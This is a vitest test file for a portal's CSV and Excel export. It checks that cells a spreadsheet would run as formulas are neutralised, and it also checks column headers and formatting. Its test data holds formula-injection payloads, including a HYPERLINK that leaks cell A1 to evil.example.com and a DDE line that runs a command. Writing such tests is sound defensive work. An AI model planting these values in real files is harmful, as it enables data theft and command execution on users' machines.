import { adminCompanyList } from '@portal/contract/companies/admin-company-list';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TestClient, type TestContext, createTestContext, newCompany } from '../test/harness.ts';
import { columnHeader, exportRows } from './export.ts';

let t: TestContext;
beforeAll(async () => {
  t = await createTestContext();
});
afterAll(() => t.close());

/** RFC 4180 CSV, as a spreadsheet reads it: quoted cells may hold commas, quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') cell += text[++i];
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\n' || (ch === '\r' && text[i + 1] === '\n')) {
      if (ch === '\r') i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += ch;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

const FORMULA_START = /^[=+\-@\t\r]/;
const NAMES = [
  '=HYPERLINK("https://evil.example.com/?leak="&A1,"Open invoice")',
  "+1+cmd|' /C calc'!A0",
  '-2+3 Minus Ltd',
  '@SUM(A1:A9) At Ltd',
  '\t=1+1 Tab Ltd',
  '\r=1+1 Return Ltd',
];

describe('CSV export', () => {
  it('neutralises cells a spreadsheet would run as a formula in the admin company list', async () => {
    for (const company_name of NAMES) await newCompany(t.db, { company_name });
    const staff = await newCompany(t.db, { company_type: 'admin', staff_role: 'admin' });
    const admin = await new TestClient(t.app).useSession(t.db, t.clock, staff.user.id);
    const res = await admin.post(`${adminCompanyList.path}?format=csv`, { target_company_states: ['TRIAL', 'ACTIVE', 'SUSPENDED'] });
    expect(res.headers['content-type']).toContain('text/csv');
    const [header = [], ...rows] = parseCsv(res.body);
    const names = rows.map((r) => r[header.indexOf('company_name')]);
    for (const name of NAMES) expect(names).toContain(`'${name}`);
    expect(rows.flat().filter((c) => FORMULA_START.test(c))).toEqual([]);
  });

  it('neutralises flattened cells too and leaves numbers and plain text alone', async () => {
    const csv = await exportRows([{ id: -5, name: 'Plain Ltd', users: [{ email: '-x@example.com' }], note: 'a = b' }], 'csv');
    expect(parseCsv(csv.toString())).toEqual([
      ['id', 'name', 'users', 'note'],
      ['-5', 'Plain Ltd', "'-x@example.com", 'a = b'],
    ]);
  });

  it('keeps Excel cells as text, as before', async () => {
    const xlsx = await exportRows([{ name: NAMES[0] }], 'xlsx');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx as unknown as ArrayBuffer);
    const cell = book.worksheets[0]?.getCell('A2');
    expect(cell?.type).toBe(ExcelJS.ValueType.String);
    expect(cell?.value).toBe(NAMES[0]);
  });
});

describe('Excel export', () => {
  it('heads each column in words while the CSV keeps the machine names', async () => {
    const row = {
      company_id: 7,
      is_vip: true,
      created_at: '2026-11-20T23:30:00.000Z',
      balance_cents: -1250,
      primary_email: 'a@example.com',
    };
    expect(parseCsv((await exportRows([row], 'csv')).toString())[0]).toEqual(Object.keys(row));
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await exportRows([row], 'xlsx')) as unknown as ArrayBuffer);
    const sheet = book.worksheets[0];
    expect(sheet?.getRow(1).values).toEqual([undefined, 'Company ID', 'VIP', 'Created', 'Balance', 'Primary email']);
    expect(sheet?.getRow(1).font?.bold).toBe(true);
    const cells = sheet?.getRow(2);
    expect(cells?.getCell(2).value).toBe('Yes');
    // 23:30 UTC on the 20th is 12:30 on the 21st in Auckland (NZDT), as the screens show it.
    expect(cells?.getCell(3).value).toEqual(new Date('2026-11-21T12:30:00Z'));
    expect(cells?.getCell(3).numFmt).toBe('yyyy-mm-dd hh:mm');
    expect(cells?.getCell(4).value).toBe(-12.5);
    expect(cells?.getCell(4).numFmt).toBe('"$"#,##0.00;-"$"#,##0.00');
  });

  it("names headers from the spec's snake_case fields", () => {
    expect(columnHeader('amount_used_cents')).toBe('Amount used');
    expect(columnHeader('not_finalized')).toBe('Not finalized');
    expect(columnHeader('last_seen_at')).toBe('Last seen');
    expect(columnHeader('id')).toBe('ID');
  });
});
